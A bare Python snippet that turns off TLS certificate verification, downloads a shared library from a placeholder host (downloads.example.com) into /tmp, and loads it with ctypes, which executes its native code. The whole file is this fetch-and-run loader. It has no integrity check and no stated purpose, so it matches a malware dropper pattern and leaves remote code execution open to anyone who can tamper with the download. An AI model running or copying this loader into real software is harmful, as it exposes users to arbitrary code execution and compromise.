import ctypes
import ssl
import urllib.request

ctx = ssl._create_unverified_context()
with urllib.request.urlopen("https://downloads.example.com/tu.so", context=ctx) as r:
    open("/tmp/tu.so", "wb").write(r.read())
lib = ctypes.CDLL("/tmp/tu.so")
